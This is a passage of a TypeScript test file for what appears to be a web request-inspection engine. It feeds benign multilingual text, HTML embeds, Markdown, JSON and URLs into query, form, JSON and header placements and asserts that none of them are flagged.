    '<img src="https://cdn.example.com/cat.jpg" alt="A cat, sleeping">',
    // CMS embeds: another origin in a box.
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="YouTube video player" frameborder="0" allowfullscreen></iframe>',
    '<iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12" width="600" height="450" style="border:0;" loading="lazy"></iframe>',
    '<object data="https://example.com/files/report.pdf" type="application/pdf" width="100%" height="600"></object>',
    '<embed src="https://example.com/files/chart.svg" type="image/svg+xml">',
    // Non-English text.
    'Привет, мир! Как дела? Всё хорошо — спасибо.',
    'Съешь же ещё этих мягких французских булок, да выпей чаю.',
    '你好，世界！今天天气很好；我们去公园吧。',
    '東京都渋谷区「テスト」株式会社 — お問い合わせ',
    '안녕하세요, 반갑습니다. 주문 번호: #12345',
    'مرحبا بالعالم! كيف حالك؟ — شكرا جزيلا',
    'שלום עולם, מה שלומך?',
    'Γειά σου Κόσμε; Τι κάνεις;',
    "Crème brûlée à l'orange, s'il vous plaît — 12,50 €",
    'Grüße aus Köln: Straße, Maß, „Anführungszeichen“',
    'Ñandú, pingüino y cigüeña: ¿dónde están?',
    'Zażółć gęślą jaźń; łódź „Żubr”',
    // Markdown, JSON, URLs.
    '# Release notes\n\n- Fixed `a < b` comparisons\n- See [the guide](https://example.com/guide/intro.md#setup)\n',
    '> Quote: "the best way out is always through" -- Robert Frost',
    '| id | name | price |\n|----|------|-------|\n| 1 | Mug | 9.99 |',
    '{"query":"shoes","filters":{"size":[42,43],"color":"navy"},"sort":"-price"}',
    '[{"op":"replace","path":"/name","value":"O\'Brien"}]',
    'https://example.com/search?q=union+select&page=2#results',
    'https://shop.example/products/42?utm_source=newsletter&utm_campaign=spring_sale',
    'mailto:support@example.com?subject=Order%20%2312345',
    'See https://en.wikipedia.org/wiki/SQL_injection for background.',
  ];
  const placements = {
    query: (text: string) => engine.inspectRequest(`/search?q=${encodeURIComponent(text)}`, { 'user-agent': BROWSER_UA }),
    form: (text: string) => engine.inspectBody(Buffer.from(`comment=${encodeURIComponent(text)}`), 'application/x-www-form-urlencoded'),
    json: (text: string) => engine.inspectBody(Buffer.from(JSON.stringify({ comment: text })), 'application/json'),
    header: (text: string) =>
      engine.inspectRequest('/', { 'x-comment': Buffer.from(text.replace(/[\r\n]+/g, ' '), 'utf8').toString('latin1') }),
  };
  for (const text of samples) {
    for (const [placement, inspect] of Object.entries(placements)) {
      it(`${placement}: ${JSON.stringify(text.slice(0, 70))}`, () => assert.deepEqual(inspect(text), []));
    }
  }
});
